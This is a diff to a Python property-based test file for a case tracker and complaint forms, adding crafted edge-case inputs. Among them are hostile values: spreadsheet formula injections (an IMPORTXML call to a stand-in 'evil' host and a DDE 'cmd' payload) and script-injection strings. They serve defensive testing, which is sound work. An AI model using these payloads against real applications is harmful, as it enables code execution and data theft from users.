@@ -12,7 +12,7 @@ import datetime as dt
 import itertools
 
 import pytest
-from hypothesis import HealthCheck, given, settings
+from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
 from data_access.checksums import store_summary
@@ -29,7 +29,7 @@ from tests import test_complaints_contract as cc
 from tests import tracker_world as tw
 from tests.apptest_helpers import ACTORS
 
-SETTINGS = settings(max_examples=25, deadline=None, derandomize=True,
+SETTINGS = settings(max_examples=20, deadline=None, derandomize=True,
                     suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
 
 # Crafted inputs, each of a kind the forms must survive.
@@ -102,6 +102,9 @@ def fresh_case(repo) -> dict:
 
 @SETTINGS
 @given(title=TEXT, notes=TEXT)
+@example(title="x" * 100_000, notes="")
+@example(title="SOP\x00", notes="")
+@example(title="=IMPORTXML(\"http://evil\",\"//a\")", notes="[x](javascript:alert(1)) :red[merah] <script>")
 def test_opening_a_case_with_any_title_and_notes_refuses_cleanly_or_stores_them_as_typed(tracker_repo, title, notes):
     repo = tracker_repo
     new = trk.NewCase(title=title, notes=notes, unit_ids=["UNIT-SETMEN-1"], track="intern", drafts=3,
@@ -369,6 +372,9 @@ def complaint_repo(tmp_path_factory):
 
 @SETTINGS
 @given(name=TEXT, subject=TEXT, description=TEXT)
+@example(name="Ani", subject="Draf", description="x" * 100_000)
+@example(name=" \t ", subject="Draf", description="Uraian")
+@example(name="سارة", subject="+cmd|' /C calc'!A0", description="<script>alert(1)</script>")
 def test_filing_a_complaint_refuses_cleanly_or_stores_every_text_as_typed(complaint_repo, name, subject,
                                                                           description):
     repo = complaint_repo
@@ -412,6 +418,9 @@ MOVE_AT = cc.MON + dt.timedelta(hours=2)
 
 @SETTINGS
 @given(text=TEXT)
+@example(text="x" * 100_000)
+@example(text="\u200b")
+@example(text="ok\x00")
 def test_every_complaint_move_refuses_bad_text_cleanly_or_stores_it_as_typed(complaint_repo, text):
     repo = complaint_repo
     moves = [
